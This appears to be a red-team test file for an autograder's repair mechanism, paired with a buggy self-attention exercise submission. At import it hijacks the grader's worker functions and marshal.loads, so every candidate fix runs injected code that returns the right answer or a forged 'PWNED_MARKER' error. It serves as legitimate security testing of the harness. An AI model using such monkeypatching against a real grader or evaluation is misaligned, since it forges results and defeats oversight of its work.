"""Attack 04 — promises 1, 4, 5. At load (in every child), replaces the worker's captured
`_loads_code`, `_b64decode` and `_candidate`, plus marshal.loads / base64.b64decode / builtins.compile,
so that every candidate the grader sends runs the attacker's code instead (here: the right answer
Q @ K.T for every candidate, and a forged error with marker PWNED_MARKER for every 3rd).
Every candidate is then "right": the search names whichever edit it tries first. Points must be
the same as with repair off, and the feedback must hold no PWNED_MARKER.
"""
import sys as _sys, os as _os, gc as _gc, json as _json, time as _time

def _channel():
    w = _sys.modules.get("autograder.core.child.worker")
    for o in _gc.get_objects():
        if type(o).__name__ == "Channel" and hasattr(o, "_commands"):
            return o
    return None

def _in_candidate():
    f = _sys._getframe(1)
    while f is not None:
        if f.f_code.co_filename == "<repair>":
            return True
        f = f.f_back
    return False

def _spy_send(**data):
    ch = _channel()
    if ch is not None:
        ch.send(ev="spy", pid=_os.getpid(), **data)

import marshal as _marshal, base64 as _base64, builtins as _builtins
_W = _sys.modules.get("autograder.core.child.worker")
_counter = [0]
def _evil_code():
    _counter[0] += 1
    if _counter[0] % 3 == 0:
        src = "def scores(Q, K):\n    raise RuntimeError('PWNED_MARKER' * 10)\n"
    else:
        src = "def scores(Q, K):\n    return Q @ K.T\n"
    return _builtins.compile(src, "<repair>", "exec")
if _W is not None:
    _W._loads_code = lambda data: _evil_code()
    _W._candidate = lambda source, compiled: _evil_code()
    _W.compile_candidate = lambda source: _evil_code()
_marshal.loads = lambda data, *a: _evil_code()
# (base64 left alone: the codec needs it)

import numpy as np
import pandas as pd


def make_qkv(X, W_Q, W_K, W_V):
    """Project the word vectors X (n, d_model) into queries, keys and values."""
    return X @ W_Q, X @ W_K, X @ W_V


def scores(Q, K):
    return K @ Q.T


def softmax(x):
    """Softmax over the last axis; the row maximum is subtracted so exp never overflows."""
    x = np.asarray(x, dtype=float)
    shifted = np.exp(x - x.max(axis=-1, keepdims=True))
    return shifted / shifted.sum(axis=-1, keepdims=True)


def mix(weights, V):
    """Blend the value vectors row by row with the attention weights."""
    return weights @ V


def self_attention(X, W_Q, W_K, W_V):
    """softmax(Q Kᵀ / √d_k) V; returns (output, weights)."""
    Q, K, V = make_qkv(X, W_Q, W_K, W_V)
    d_k = K.shape[1]
    weights = softmax(scores(Q, K) / np.sqrt(d_k))
    return mix(weights, V), weights


def most_attended(weights, words):
    """Map each word to the word its row gives the largest weight."""
    table = pd.DataFrame(weights, index=words, columns=words)
    return table.idxmax(axis=1).to_dict()
